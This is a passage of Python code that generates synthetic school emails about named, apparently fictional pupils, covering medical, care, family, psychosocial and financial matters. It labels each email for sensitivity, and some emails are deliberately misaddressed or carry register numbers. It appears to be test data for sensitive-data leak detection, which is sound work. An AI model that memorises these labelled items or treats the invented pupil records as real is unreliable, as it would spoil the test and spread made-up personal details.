    Het is de derde keer sinds september, dus misschien ook de knuffels en de kussens in de diepvries
    steken. Het CLB heeft een goede folder, ik geef hem morgen mee.

    Groetjes,
    juf Karen
    """), about="P0071", rules="sensitive", cats="medical", kind="sensitive",
    note="head lice of a named child (contagious condition), to her own mother")

add("geen-fotos-dylan-pleeggezin", "2024-10-28 11:00", S["dir"], [X["foto"]],
    "Schoolfoto's - leerling die niet gepubliceerd mag worden",
    T("""
    Beste Bart,

    Voor de fotodag van 14 november nog één belangrijke vraag. Dylan Schepers uit K3B mag wel op de klasfoto
    voor de klas zelf, maar zijn foto mag in geen geval in de online galerij of op onze website komen. Hij
    verblijft in een pleeggezin en de jeugdrechter heeft beslist dat zijn biologische ouders niet mogen weten
    op welke school hij zit.

    Kan u bij zijn foto's en de klasfoto van K3B de online publicatie uitschakelen? De pleegouders bestellen
    rechtstreeks via het secretariaat.

    Alvast bedankt voor uw discretie,

    """) + SIG["dir_m"] + "\n", about="P0083", rules="sensitive", cats="family", kind="sensitive",
    note="foster placement and a youth-court decision about a named pupil, to the photographer")

add("logopedie-schooluren-zoe", "2024-09-24 14:40", S["zorg"], [P("P0118")],
    "Logopedie tijdens de schooluren voor Zoë",
    T("""
    Beste mevrouw Claessens,

    Goed nieuws: het CLB heeft positief advies gegeven voor logopedie tijdens de schooluren voor Zoë. Ze kan
    vanaf 8 oktober op dinsdag en donderdag van 10u45 tot 11u15 bij logopediste Charlotte Hendrickx in het
    lokaaltje naast de zorgklas. Zoë mist dan een stuk van de les wiskunde; juf Ann-Sophie zorgt dat ze dat
    niet moet inhalen.

    In bijlage het aanvraagformulier. Wilt u dit ondertekenen en terugbezorgen, samen met het voorschrift
    van de arts? Dan kan ik het dossier afronden.

    Vriendelijke groeten,

    """) + SIG["zorg"], atts=[("aanvraag_logopedie_schooluren.pdf", make_pdf([
        "Aanvraag logopedie tijdens de schooluren",
        "Leerling: Zoe Claessens - klas 1B",
        "Logopedist: Charlotte Hendrickx, praktijk Praatgraag",
        "Frequentie: 2 x 30 minuten per week (dinsdag en donderdag 10u45)",
        "Advies CLB: positief (articulatie en taalontwikkeling)",
        "Handtekening ouder: ................................",
    ], "Aanvraag logopedie"))], about="P0118", rules="sensitive", cats="care", kind="sensitive",
    note="speech therapy during school hours with CLB advice, to Zoë's own mother; PDF form")

add("verslag-logopedie-zoe-verkeerd", "2024-12-19 18:30", S["zorg"], [("Els Claes", P("P0183"))],
    "Verslag overleg logopedie Zoë Claessens",
    T("""
    Dag Els,

    Vandaag had ik overleg met Charlotte, de logopediste van Zoë. Kort samengevat:
    - de /r/ en de /s/ gaan al veel beter, in spontane taal hoor je het nog af en toe;
    - het lezen blijft moeilijk: Zoë zit nog op AVI-start, terwijl de klas al aan AVI-M3 werkt;
    - we spreken af dat ze na de kerstvakantie in de klas extra leesmomenten krijgt met de duo-lezer en
      dat de logopedie doorloopt tot de paasvakantie. Dan bekijken we of een CLB-onderzoek naar dyslexie
      nodig is.

    Het volledige verslag kan je na de vakantie komen inkijken. Fijne feestdagen!

    """) + SIG["zorg"], about="P0118", mis=True, rules="sensitive recipient", cats="care", kind="sensitive",
    note="report on Zoë Claessens sent to 'Els Claes' (mother of Warre Claes, 3B) instead of Els Claessens")

add("schema-logopediste", "2024-10-01 10:15", S["zorg"], [X["logo"]], "Schema vanaf 8 oktober",
    T("""
    Dag Charlotte,

    Hier het schema zoals afgesproken:

    dinsdag 10u45 - 11u15  Zoë Claessens (1B) - articulatie, taal
    donderdag 10u45 - 11u15  Zoë Claessens (1B)
    donderdag 11u15 - 11u45  Bas Wijns (K3A) - stotteren

    Bas is nog wat schuw, juf Karen brengt hem de eerste keer zelf naar je lokaal.

    Groetjes,
    Hilde
    """), about="P0118 P0081", rules="sensitive", cats="care", kind="sensitive",
    note="therapy schedule naming two pupils and what they are treated for, to the external therapist")

add("emma-krentenbaard", "2024-10-22 12:15", S["2a"], [P("P0135")], "Emma - rode plekjes",
    T("""
    Dag Kristof,

    Emma heeft sinds vanmorgen rode, korstige plekjes rond haar mond en neus. Het lijkt op krentenbaard, er
    zitten er nog twee kinderen in de klas mee. Zou je vandaag nog met haar langs de dokter willen gaan?
    Volgens de richtlijnen van het CLB mag ze terugkomen als ze 24 uur antibioticazalf gebruikt.

    Ze is verder goed gezind hoor!

    Annelies
    """), mailer="iphone", tags=["phone"], about="P0135", rules="sensitive", cats="medical", kind="sensitive",
    note="suspected impetigo of a named child, to her father")

add("re-sensor-ilias-diabetes", "2024-09-05 19:05", S["2a"], [P("P0140")], "RE: sensor Ilias",
    T("""
    Beste meneer Haddou,

    Bedankt voor de uitleg en de opleiding van gisteren, dat was heel duidelijk. Ik zet de afspraken nog
    even op een rij zodat we zeker hetzelfde bedoelen:

    - Ilias scant zijn sensor om 10u (voor de speeltijd) en om 12u (voor het middageten), en voor de turnles.
    - Onder 4 mmol/l krijgt hij 3 druivensuikers uit zijn doos in de klaskast en scant hij na 15 minuten opnieuw.
    - Boven 15 mmol/l bel ik u, hij mag dan niet turnen.
    - De insulinepomp regelt u zelf via de app; wij doen niets met de pomp.
    - Bij de zwemles gaat de sensor mee in een waterdichte hoes, meester Wouter is op de hoogte.

    Als er iets verandert, laat het me gerust weten.

    Vriendelijke groeten,
    Annelies Willems
    juf 2A
    """), html=True, reply=True, tags=["reply"], about="P0140", rules="sensitive", cats="medical",
    kind="sensitive", note="diabetes management of a named pupil, to his own father")

add("grommets-swimming-wrong-thread", "2024-10-03 21:10", S["2b"], [P("P0152")], "RE: zwemmuts?",
    T("""
    Dear Mrs Nowak,

    I spoke with the swimming instructor today. Olivia can join the swimming lessons with her grommets, but
    only with the ear plugs and the neoprene headband the ENT doctor prescribed, and she is not allowed to
    dive under water. If her ears become painful or start leaking again, please keep her out of the pool and
    let me know.

    Kind regards,
    Joke Heylen
    teacher 2B
    """) + q(T("""
    Dag juf, moeten ze morgen een badmuts meebrengen naar het zwemmen of krijgen ze die daar?
    Groetjes, Katleen
    """), "Op wo 2 okt. 2024 om 18:20 schreef Katleen Van Roey <katleen.vanroey@gmail.com>:"),
    reply=True, tags=["reply"], lang="en", about="P0155", mis=True,
    rules="sensitive recipient", cats="medical", kind="sensitive",
    note="answer about Olivia Nowak's ear tubes typed into the thread of Sem Van Roey's mother")

_ouders3a = class_parents("3A", first_only=True)
add("ruben-ziekenhuis-kaartje-klas", "2025-02-10 19:30", S["3a"], [S["3a"]], "Ruben in het ziekenhuis - kaartje van de klas",
    T("""
    Beste ouders van 3A,

    Ruben De Wachter ligt sinds zaterdag in het ziekenhuis: hij is met spoed geopereerd aan zijn blindedarm
    en er waren complicaties, waardoor hij zeker nog een week moet blijven. Zijn mama vond het goed dat ik
    dit met jullie deel.

    Morgen maken we in de klas een grote kaart. Als uw kind thuis nog een tekening wil maken, mag die
    morgen mee naar school.

    Vriendelijke groeten,
    meester Tom
    """), bcc=[(("", a)) for a in _ouders3a], about="P0170", rules="sensitive", cats="medical",
    kind="sensitive", note="class letter naming a hospitalised pupil; all 3A parents (his mother included) in BCC, so only sensitive")

add("amber-vermoeden-dyslexie", "2024-12-05 20:55", S["3a"], [P("P0173")], "Amber - lezen en spelling",
    T("""
    Beste mevrouw Celis,

    Zoals beloofd op het oudercontact stuur ik u nog een korte samenvatting van wat we besproken hebben.

    Amber doet enorm haar best, maar het lezen en de spelling blijven erg moeizaam verlopen. Ze leest nog
    op AVI-E3-niveau, ze verwart b/d en p/q en bij dictees maakt ze veel fouten tegen de klankzuivere woorden,
    zelfs na veel oefenen. Samen met juf Hilde (zorg) vermoeden we dat er meer aan de hand is dan een
    achterstand, en we zouden het CLB willen vragen om haar te testen op dyslexie.

    In afwachting daarvan krijgt Amber vanaf volgende week:
    - toetsen in een groter lettertype (Arial 14);
    - de vragen van toetsen wereldoriëntatie voorgelezen;
    - geen punten meer af voor spelling bij andere vakken dan taal;
    - twee keer per week extra leesoefening in de zorgklas.

    Als u akkoord gaat met het CLB-onderzoek, mag u het toestemmingsformulier (geeft Amber morgen mee)
    ondertekend terugbezorgen.

    Met vriendelijke groeten,
    Tom Hermans
    klastitularis 3A
    """), charset="windows-1252", about="P0173", rules="sensitive", cats="care", kind="sensitive",
    note="suspected dyslexia, CLB testing and adjustments, to Amber's own mother; windows-1252 body")

add("nora-gepest-melding", "2024-11-26 16:55", S["3b"], [S["zorg"], S["dir"]], "Pesten 3B - dringend",
    T("""
    Hilde, Koen,

    Ik maak me echt zorgen over Nora Hendrikx. Al een paar weken wordt ze op de speelplaats buitengesloten
    en uitgelachen door Kobe Stas en twee jongens uit 4B. Vandaag kwam ze huilend binnen: ze hadden haar
    brooddoos in de vuilbak gegooid. Een mama vertelde me ook dat er een groepje op WhatsApp bestaat
    met de naam 'Nora is dom' (de kinderen hebben de gsm van hun ouders gebruikt).

    Kobe heeft vandaag al een gesprek gehad met mij en moet de komende week de speeltijd bij de toezichter
    doorbrengen. Kunnen we morgen samenzitten om de no-blame-aanpak op te starten? Ik wil ook de mama van
    Nora vandaag nog laten weten wat er gebeurt.

    Eline
    """), about="P0188 P0190", rules="sensitive", cats="psychosocial", kind="sensitive",
    note="bullying victim and named perpetrator with a consequence, internal")

add("nora-mama-aanpak-pesten", "2024-11-26 20:30", S["3b"], [P("P0188")], "Nora - wat we doen",
    T("""
    Dag Sanne,

    Bedankt voor je telefoontje. Zoals beloofd nog even op papier wat we doen:
    - vandaag heb ik met de betrokken kinderen gesproken, er is ook een sanctie gegeven;
    - morgen starten juf Hilde en ik een no-blame-aanpak: we vormen een steungroep rond Nora met kinderen
      die zij zelf kiest;
    - Nora mag elke speeltijd bij de toezichter blijven of in de bib terecht als ze zich niet veilig voelt;
    - over de WhatsApp-groep spreken we de ouders van de betrokkenen aan.

    Nora is een fijne meid en ze verdient het om graag naar school te komen. We houden je op de hoogte.

    Eline
    """), about="P0188", rules="sensitive", cats="psychosocial", kind="sensitive",
    note="bullying measures for Nora, to her own mother; the other children are not named")

add("milan-rilatine-fr", "2025-01-28 17:10", S["4a"], [P("P0201")], "Milan - médication et plan",
    T("""
    Bonjour Madame Dumont,

    Je me permets de vous écrire parce que Milan était très agité ce matin et avait beaucoup de mal à se
    concentrer. Il m'a dit qu'il n'avait pas pris sa Rilatine au petit-déjeuner. Est-ce possible ?

    Pour rappel, voici les aménagements que nous avons convenus dans son plan d'accompagnement (TDAH) :
    - une place au premier rang, près de moi ;
    - un time-timer sur son banc et une petite pause de mouvement toutes les 20 minutes ;
    - les consignes écrites au tableau et répétées individuellement ;
    - pour les tests, un local calme avec juf Hilde si nécessaire.

    Si le dosage doit être revu, n'hésitez pas à me transmettre les conseils du pédiatre.

    Bien à vous,
    Marijke Aerts
    institutrice 4A
    """), charset="windows-1252", lang="fr", about="P0201",
    rules="sensitive", cats="medical care", kind="sensitive",
    note="French: ADHD medication and reasonable adjustments, to Milan's own mother")

add("sara-ogen-clb-consult", "2024-10-15 11:25", S["4a"], [X["clbnurse"]], "Vraag medisch consult Sara Kurt 4A",
    T("""
    Dag Veerle,

    Zou jij Sara Kurt uit 4A (°03/02/2016) vervroegd willen zien op medisch consult? Ze knijpt de laatste
    weken voortdurend haar ogen dicht als ze van het bord moet lezen en ze klaagt 's middags vaak over
    hoofdpijn. Mama vertelde op het oudercontact dat Sara ook pufjes neemt voor haar astma, maar die heeft
    ze niet bij op school.

    Mama is akkoord met het consult. Sara is er elke dag behalve woensdagnamiddag.

    Groetjes,
    Marijke Aerts
    4A
    """), about="P0204", rules="sensitive personal_data", cats="medical care", kind="sensitive",
    note="vision problems and asthma of a named pupil; asks the CLB for an early consult (CLB follow-up); date of birth given")

add("victor-dyscalculie-verkeerde-lenaerts", "2025-02-18 19:45", S["4b"], [("Lenaerts", P("P0040"))],
    "Victor - resultaten CLB-onderzoek",
    T("""
    Beste mevrouw Lenaerts,

    Zoals besproken op het oudercontact heeft het CLB het onderzoek bij Victor afgerond. Het verslag bevestigt
    dyscalculie. Vanaf nu krijgt Victor in 4B de volgende maatregelen:
    - hij mag bij toetsen een tafelkaart en een rekenmachine gebruiken (behalve bij de toetsen over
      hoofdrekenen zelf);
    - minder oefeningen per toets, zelfde leerstof;
    - extra begeleiding in de zorgklas op woensdag.

    Deze maatregelen komen ook in zijn STICORDI-fiche, zodat ze volgend jaar meegaan naar het vijfde.

    Met vriendelijke groeten,
    Bram Van Damme
    klastitularis 4B
    """), about="P0215", mis=True, rules="sensitive recipient", cats="care", kind="sensitive",
    note="dyscalculia result for Victor Lenaerts sent to Sarah Lenaerts, mother of Finn (K2A), via surname autocomplete")

add("jasper-speelplaats-mama", "2025-03-11 16:20", S["4a"], [P("P0197")], "Jasper - incident speelplaats",
    T("""
    Beste Inge,

    Ik moet je helaas laten weten dat Jasper vandaag op de speelplaats een jongen uit het derde leerjaar
    tegen de grond heeft geduwd en geschopt. De ouders van die jongen zijn verwittigd.

    Het is de derde keer sinds de krokusvakantie dat Jasper zo hard reageert. Hij krijgt een herstelopdracht
    (een brief aan de jongen en zijn ouders) en mag twee dagen niet voetballen op de speelplaats. Zouden jij
    en Tom eens kunnen langskomen voor een gesprek met mij en de directeur?

    Groetjes,
    Marijke
    """), about="P0197", rules="sensitive", cats="psychosocial", kind="sensitive",
    note="repeated aggression with consequences, to Jasper's own mother")

add("ordemaatregel-jasper-verkeerde-ouder", "2025-03-13 10:05", S["dir"], [P("P0075", 2)],
    "Ordemaatregel Jasper Pauwels (4A)",
    T("""
    Geachte ouder,

    Naar aanleiding van de herhaalde incidenten op de speelplaats (het laatste op 11 maart) heb ik als
    directeur beslist dat Jasper Pauwels van 17 tot en met 21 maart de speeltijden en de middagpauze niet op
    de speelplaats doorbrengt, maar onder begeleiding in de zorgklas. Dit is een ordemaatregel volgens ons
    schoolreglement (punt 5.3).

    Ik nodig u graag uit voor een gesprek op dinsdag 18 maart om 16u00.

    Met vriendelijke groeten,

    """) + SIG["dir"], about="P0197", mis=True,
    rules="sensitive personal_data recipient", cats="psychosocial", kind="sensitive",
    note="sibling mix-up: Jasper's order measure sent to Kevin Vos, father of his half-sister Fien (K3A) but not his parent; phones in signature")

add("overlijden-papa-elif", "2025-03-03 07:40", S["5a"], [S["5b"], S["zorg"], S["lo"]], "Elif 5A - overlijden papa",
    T("""
    Dag collega's,

    Triest nieuws: de papa van Elif Yılmaz uit mijn klas is zaterdag plots overleden (hartstilstand). De
    begrafenis is woensdag. Elif komt deze week waarschijnlijk niet naar school; mama laat weten wanneer.

    Ik vertel het vandaag aan de klas, samen met Hilde. Wouter, kan jij de zwemles van donderdag voor haar
    laten vallen als ze er toch is? Dieter, de kinderen van 5B kennen haar goed van de voetbal, dus het kan
    daar ook ter sprake komen.

    Katrien
    """), about="P0231", rules="sensitive", cats="family", kind="sensitive",
    note="death of a pupil's father, internal")

add("elif-rouwhoekje-verkeerde-elif", "2025-03-12 20:15", S["5a"], [("Mama Elif", P("P0245"))],
    "Elif Yılmaz - hoe gaat het?",
    T("""
    Dag mevrouw,

    Ik wou even horen hoe het met jullie gaat. Elif was vandaag heel stil in de klas. Na het overlijden van
    haar papa is dat natuurlijk heel begrijpelijk. We hebben in de klas een rouwhoekje gemaakt met een foto
    en tekeningen van de kinderen, Elif mag daar altijd naartoe als ze even alleen wil zijn.

    Als u wil, kan ik na school ook eens rustig met haar praten.

    Veel sterkte,
    juf Katrien
    """), cte="base64", about="P0231", mis=True, rules="sensitive recipient", cats="family", kind="sensitive",
    note="about Elif Yılmaz (5A), sent to 'Mama Elif', the mother of Elif Demir (5B)")

add("arne-refter-uitsluiting", "2025-01-30 15:50", S["dir"], [P("P0238")], "Arne - incident refter",
    T("""
    Beste meneer Michiels,

    Vandaag heeft Arne tijdens het middageten in de refter een toezichter zwaar uitgescholden en een stoel
    omgegooid toen ze hem vroeg om te gaan zitten. Dat is al de tweede keer deze maand.

    Arne is daarom van maandag 3 tot en met woensdag 5 februari uitgesloten van het middagtoezicht in de
    refter: hij eet die dagen in mijn bureau. Als hij liever thuis eet, is dat uiteraard ook goed.

    Ik verwacht dat Arne zich excuseert bij juf Marleen. Ik stel ook een gesprek voor, met u en met Arne.

    Met vriendelijke groeten,

    """) + SIG["dir"], about="P0238", rules="sensitive personal_data", cats="psychosocial", kind="sensitive",
    note="behaviour incident with exclusion from lunch supervision, to Arne's father; phones in signature")

add("afbetalingsplan-wout", "2024-11-06 14:30", S["bkh"], [P("P0247")], "Afbetalingsplan schoolrekening Wout",
    T("""
    Beste mevrouw Vervoort,

    Zoals telefonisch afgesproken bevestig ik hierbij het afbetalingsplan voor de openstaande rekeningen van
    Wout (5B), vooral de bosklassen van oktober.

    Openstaand saldo: € 186,40
    Afbetaling: € 30 per maand, telkens voor de 10de, vanaf december
    Rekeningnummer school: %s
    Mededeling: Wout Vervoort 5B afbetaling

    U vertelde dat u ook een tussenkomst van het OCMW aanvraagt. Als de maatschappelijk werker een
    bevestiging stuurt, passen we het plan aan.

    Met vriendelijke groeten,
    """ % SCHOOL_IBAN) + SIG["bkh"] + "\n", about="P0247", rules="sensitive personal_data", cats="financial",
    kind="sensitive", note="payment plan and OCMW help for a named pupil, to his mother; valid IBAN")

add("openstaande-rekening-jonas-lore", "2025-01-09 10:20", S["bkh"], [P("P0138")],
    "Herinnering: openstaande schoolrekeningen",
    T("""
    Beste mevrouw Smets,

    Volgens onze boekhouding zijn de schoolrekeningen van september tot december voor Jonas (2A) en Lore (4B)
    nog niet betaald:

    Jonas - 2A: € 97,60
    Lore - 4B: € 145,50
    Totaal: € 243,10

    Als het moeilijk is om alles in één keer te betalen, kunnen we discreet een afbetalingsplan opmaken.
    Neem gerust contact op met mij of met de directeur.

    Met vriendelijke groeten,
    """) + SIG["bkh"] + "\n", about="P0138 P0212", rules="sensitive", cats="financial", kind="sensitive",
    note="unpaid bills of two siblings, to their shared mother")

add("zeeklassen-mohamed-verkeerde-amrani", "2025-04-08 13:15", S["bkh"], [("El Amrani", P("P0286"))],
    "Openstaande factuur zeeklassen Mohamed Amrani (6A)",
    T("""
    Beste ouder,

    De factuur voor de zeeklassen van Mohamed (6A), € 215,00, staat nog open. De vervaldag was 31 maart.
    We begrijpen dat zo'n bedrag zwaar kan doorwegen. Als u een spreiding wil, of als u een tussenkomst
    van het OCMW of de schooltoeslag wil inzetten, laat het ons weten.

    Met vriendelijke groeten,
    """) + SIG["bkh"] + "\n", about="P0265", mis=True, rules="sensitive recipient", cats="financial",
    kind="sensitive", note="unpaid bill of Mohamed Amrani (6A) sent to the father of Lina El Amrani (6B): similar surname")

add("schoolongeval-mohamed-verzekering", "2024-10-25 11:40", S["sec"], [P("P0265")],
    "Aangifte schoolongeval Mohamed",
    T("""
    Beste mevrouw Amrani,

    Zoals gisteren telefonisch besproken maken we de aangifte van het schoolongeval van Mohamed (val van het
    klimrek op de speelplaats, 24/10). Op spoed in AZ Dijlevallei werd een breuk van de linkerpols
    vastgesteld; hij kreeg een gips voor vier weken.

    Voor de verzekering heb ik nog het volgende nodig:
    - het medisch attest van de spoedarts (luik 2 van het formulier in bijlage);
    - de kleefbriefjes van het ziekenfonds.

    Ik heb zijn rijksregisternummer al ingevuld: %s. Klopt dat?

    Beterschap aan Mohamed!

    """ % rrn(13, 6, 14, 273)) + SIG["sec"], atts=[("aangifte_schoolongeval_Amrani.pdf", make_pdf([
        "Aangifte schoolongeval - luik 1 (in te vullen door de school)",
        "Leerling: Mohamed Amrani, 6A",
        "Datum en uur: 24/10/2024, 12u40 - speelplaats, klimrek",
        "Letsel: breuk linkerpols (AZ Dijlevallei, spoed)",
        "Getuige: Marleen Dewit (middagtoezicht)",
        "Luik 2: medisch attest - in te vullen door de behandelende arts",
    ], "Aangifte schoolongeval"))], about="P0265", rules="sensitive personal_data", cats="medical",
    kind="sensitive", note="school accident with fracture, to Mohamed's mother; valid national register number and school phone")

add("jana-zelfverwonding-clb", "2025-03-20 12:35", S["6a"], [X["clb"]], "Zorgen om Jana Declercq (6A)",
    T("""
    Dag Dries,

    Ik wil je graag iets melden over Jana Declercq uit mijn klas. Een vriendinnetje kwam me vanmorgen
    vertellen dat Jana zichzelf pijn doet; toen ik met Jana praatte gaf ze toe dat ze zichzelf al een paar
    weken krast als ze 'te veel in haar hoofd heeft'. Ze wil niet dat haar mama het weet.

    Ze is de laatste maanden ook erg teruggetrokken en haar punten zijn sterk gedaald. Kan jij haar deze week
    nog zien? Hilde (zorg) is op de hoogte. Ik weet niet goed hoe ik met de ouders moet communiceren zonder
    haar vertrouwen te verliezen, daar had ik graag je advies over.

    Jeroen Wuyts
    klastitularis 6A
    """), about="P0262", rules="sensitive", cats="psychosocial care", kind="sensitive",
    note="self-harm of a named pupil reported to the CLB, asking it to see her (CLB follow-up)")

add("tuur-angst-poort", "2025-02-05 09:25", S["6a"], [P("P0268")], "Tuur vanochtend",
    T("""
    Dag Sigrid,

    Even laten weten dat Tuur na jouw vertrek nog een half uur heel angstig was. Hij huilde, wou niet naar
    binnen en zei dat hij 'het niet kon'. Uiteindelijk is hij met mij even in de bib gaan zitten en om
    9u15 is hij toch de klas binnengekomen. Nu werkt hij rustig mee.

    Het is de vierde keer in twee weken. Misschien is het goed om eens samen te zitten en te bekijken wat er
    achter die angst zit? Ook de overstap naar het secundair speelt mee, daar piekert hij veel over.

    Groetjes,
    Jeroen
    """), about="P0268", rules="sensitive", cats="psychosocial", kind="sensitive",
    note="school anxiety of Tuur, to his own mother")

add("overdracht-kiara-secundair", "2025-06-16 14:05", S["zorg"], [X["dijlecollege"]],
    "Overdracht zorgleerling Kiara Mbuyi (6B)",
    T("""
    Beste collega's van het Dijlecollege,

    Kiara Mbuyi uit ons zesde leerjaar start in september bij jullie in 1A. Met toestemming van mama bezorg
    ik jullie alvast haar overdrachtsfiche (in bijlage).

    Kort: Kiara heeft dyslexie en dysorthografie (attest 2022). Ze werkt goed met voorleessoftware (Kurzweil),
    krijgt extra tijd bij toetsen en wordt niet gequoteerd op spelling buiten de taalvakken. Ze praat er zelf
    niet graag over in de klas, dus graag discreet.

    Mama komt graag op het intakegesprek in augustus.

    Met collegiale groeten,

    """) + SIG["zorg"], atts=[("Overdrachtsfiche Kiara Mbuyi.docx", make_docx([
        "Overdrachtsfiche lager - secundair",
        "Leerling: Kiara Mbuyi - 6B",
        "Diagnose: dyslexie en dysorthografie (attest CLB 2022)",
        "Maatregelen: voorleessoftware, extra tijd (+1/3), geen spellingfouten buiten taal, vergroot lettertype",
        "Sterktes: mondeling sterk, wiskunde goed, sociaal",
        "Contact mama: via zorgcoordinator",
    ]))], about="P0279", rules="sensitive", cats="care", kind="sensitive",
    note="dyslexia diagnosis and adjustments of a named pupil to her next school; docx")

_3b = [["Leerling", "Aandachtspunten"],
       ["Sami Haddad", "Ouders gescheiden, week-weekregeling. Rapport en brieven naar beide ouders."],
       ["Warre Claes", "Dyslexie, gebruikt voorleessoftware (laptop 14). Toetsen vergroot."],
       ["Lisa Thys", "Ernstige notenallergie - epipen in de klaskast (bovenste plank)."],
       ["Nora Hendrikx", "Slachtoffer van pesten, no-blame-aanpak loopt. Goed opvolgen op de speelplaats."],
       ["Kobe Stas", "Betrokken bij het pesten. Speeltijd voorlopig bij de toezichter."],
       ["Yanis Ouali", "Schoolrekening via OCMW; niets meegeven om te betalen, alles via Martine."]]
add("klaslijst-3b-aandachtspunten-interim", "2024-12-02 18:45", S["3b"], [S["int"]],
    "Klaslijst 3B met aandachtspunten",
    T("""
    Hoi Jana,

    Voor je vervanging in 3B volgende week: hieronder de kinderen waar je even extra op moet letten. De rest
    van de klas loopt vlot, je zal zien dat het een toffe bende is.

    [[T0]]

    De toetsen van wiskunde liggen klaar in de linkse kast. Bel me gerust als er iets is.

    Eline
    """), html=True, tables=[_3b], tags=["table"], about="P0185 P0183 P0186 P0188 P0190 P0187",
    rules="sensitive", cats="family psychosocial medical care financial", kind="sensitive",
    note="class list with remarks: divorce, dyslexia, allergy, bullying, OCMW billing - all five categories in one table")

add("uitnodiging-mdo-bas", "2025-02-12 11:30", S["zorg"], [P("P0081"), X["logo"], X["clb"]],
    "Uitnodiging MDO Bas Wijns - dinsdag 25 februari",
    T("""
    Beste mevrouw Wijns, beste Charlotte, beste Dries,

    Graag nodig ik jullie uit op het multidisciplinair overleg over Bas (K3A) op dinsdag 25 februari om 15u45
    in de zorgklas.

    Agenda:
    1. verslag van de kinderpsychiater: vermoeden van een autismespectrumstoornis (ASS);
    2. stand van zaken logopedie (stotteren);
    3. wat Bas nodig heeft in de overstap naar het eerste leerjaar: mogelijk een verslag voor
       buitengewoon onderwijs of een begeleiding vanuit het ondersteuningsnetwerk.

    Laat gerust weten als het uur niet past.

    Vriendelijke groeten,

    """) + SIG["zorg"], about="P0081", rules="sensitive bcc", cats="care", kind="sensitive",
    note="MDO invite about a suspected ASS diagnosis; a parent, the therapist and the CLB see each other's addresses in To")

add("papa-kato-gevangenis", "2024-10-09 12:25", S["k3a"], [S["zorg"]], "Kato",
    T("""
    Hilde,

    Gisteren aan de poort vertelde de mama van Kato Geudens me dat haar papa sinds vorige maand in de
    gevangenis zit (Leuven-Centraal). Kato denkt dat papa 'ver weg aan het werken' is en mama wil dat
    voorlopig zo houden. Ze vroeg of we daar in de klas rekening mee willen houden, bv. bij het knutselen
    voor vaderdag.

    Ik dacht dat je dit best weet.

    Karen
    """), about="P0078", rules="sensitive", cats="family", kind="sensitive",
    note="a parent in prison, internal")

add("melding-vk-rune", "2025-03-25 10:50", S["zorg"], [X["vk"]], "Melding vermoeden van geweld - leerling 2B",
    T("""
    Geachte,

    Zoals telefonisch besproken met uw collega bezorg ik u hierbij de schriftelijke melding.

    Leerling: Rune Verbeeck, 2de leerjaar, geboren op 18/09/2017
    School: basisschool Stroom Wilsele

    Rune vertelde gisteren spontaan aan zijn juf dat papa hem 'met de riem slaat' als hij niet luistert, en
    dat hij 's avonds soms niet mag eten. De mama heeft hem
    opgehaald; we hebben de ouders nog niet aangesproken, op advies van uw dienst.

    De directeur is op de hoogte. Ik ben bereikbaar op school op maandag, dinsdag en donderdag.

    Met vriendelijke groeten,

    """) + SIG["zorg"], importance="high", about="P0156", rules="sensitive personal_data", cats="family",
    kind="sensitive", note="suspected violence at home reported to the child-abuse centre; date of birth")

add("schooltoeslag-yasmina", "2024-12-12 11:05", S["sec"], [P("P0180")], "Schooltoeslag Groeipakket",
    T("""
    Beste mevrouw Tahiri,

    Bij het nakijken van de lijsten merkten we dat de schooltoeslag van het Groeipakket voor Yasmina dit
    schooljaar nog niet werd uitbetaald. Vorig jaar kreeg u die wel. Misschien ontbreekt er een document bij
    uw uitbetaler (bv. het aanslagbiljet)? Als u wil, helpen we u op het secretariaat met de aanvraag.

    Met vriendelijke groeten,
    """) + SIG["sec_m"] + "\n", about="P0180", rules="sensitive", cats="financial", kind="sensitive",
    note="means-tested school allowance of a named pupil, to her mother")

add("fw-notities-klassenraad-prive", "2025-03-27 21:35", SH["zorg"], [("Hilde Wouters", "hildewouters70@gmail.com")],
    "FW: notities klassenraad 2de trimester",
    T("""
    om thuis verder uit te werken
    """) + olq("Wouters Hilde <hwo@spc.ksleuven.be>", "donderdag 27 maart 2025 16:10", "Wouters Hilde",
               "notities klassenraad 2de trimester", T("""
    Klassenraad 3de en 4de leerjaar - 27/3

    3A
    - Amber Celis: CLB-onderzoek dyslexie loopt, resultaat na Pasen. Maatregelen blijven.
    - Yasmina Tahiri: niets nieuws.
    4B
    - Victor Lenaerts: dyscalculie bevestigd, STICORDI-fiche in orde, rekenmachine bij toetsen.
    2A (ter info)
    - Ilias Haddou: diabetes goed onder controle, geen impact op leren. Sensorhoes zwemmen vervangen.

    Actie: verslag naar leerlingvolgsysteem (Hilde).
    """)), tags=["forward"], about="P0173 P0215 P0140",
    rules="sensitive private_account", cats="medical care", kind="sensitive",
    note="care teacher forwards class council notes about named pupils to her private gmail")

add("noor-koorts-verkeerde-noor", "2024-12-04 10:40", S["k2a"], [("Evelien Daems", P("P0036"))],
    "Noor Vandenberghe (K2A) - koorts",
    T("""
    Dag mama,

    Noor voelt zich niet goed, ze heeft 38,9 koorts en heeft net overgegeven in de klas. Kan er iemand haar
    zo snel mogelijk komen halen? We hebben ook gebeld maar kregen geen antwoord.

    juf Nathalie
    """), importance="high", about="P0031", mis=True, rules="sensitive recipient", cats="medical",
    kind="sensitive", note="about Noor Vandenberghe; sent to the mother of the other Noor in K2A (Noor Daems)")

add("wijkagent-ayoub", "2025-05-06 12:10", S["dir"], [S["6a"]], "Ayoub - wijkagent",
    T("""
    Jeroen,

    Ter info: de wijkagent is vanmorgen langs geweest over Ayoub Mansouri. Hij is zaterdag samen met twee
    oudere jongens betrapt op winkeldiefstal in de Delhaize en er is een proces-verbaal opgemaakt. De
    jeugdrechter beslist verder. Papa weet het en is er zwaar van aangedaan.

    Gelieve er in de klas niets over te zeggen, maar hou hem een beetje in het oog op de speelplaats. Hij
    zou de laatste tijd met die oudere jongens afspreken na school.

    Koen
    """), about="P0270", rules="sensitive", cats="psychosocial", kind="sensitive",
    note="police involvement with a named pupil, internal")

add("ocmw-tussenkomst-yanis", "2024-10-18 09:50", S["bkh"], [X["ocmw"]], "Tussenkomst schoolkosten Yanis Ouali",
    T("""
    Beste mevrouw Goovaerts,

    Zoals afgesproken stuur ik u het overzicht van de schoolkosten van Yanis Ouali (3B) voor het eerste
    trimester, zodat het OCMW de tussenkomst kan goedkeuren:

    - uitstap Technopolis: € 14,00
    - zwemmen (8 beurten): € 16,00
    - warme maaltijden september-december: € 132,00
    - turn-T-shirt: € 9,00

    De mama gaf ons toestemming om dit rechtstreeks met u te regelen. De factuur mag op naam van het OCMW.

    Met vriendelijke groeten,
    """) + SIG["bkh"] + "\n", about="P0187", rules="sensitive", cats="financial", kind="sensitive",
